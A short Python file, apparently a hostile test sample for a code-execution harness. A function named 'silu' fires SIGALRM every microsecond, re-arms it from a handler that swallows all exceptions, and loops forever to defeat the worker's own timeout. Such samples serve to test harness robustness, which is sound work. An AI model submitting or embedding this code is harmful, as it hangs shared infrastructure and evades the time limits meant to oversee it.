"""A signal every microsecond, and a handler that swallows the worker's own."""

import signal


def swallow(number, frame):
    try:
        signal.signal(signal.SIGALRM, swallow)
        signal.setitimer(signal.ITIMER_REAL, 1e-6, 1e-6)
    except BaseException:
        pass


def silu(x):
    signal.signal(signal.SIGALRM, swallow)
    signal.setitimer(signal.ITIMER_REAL, 1e-6, 1e-6)
    while True:
        try:
            sum(range(1000))
        except BaseException:
            pass
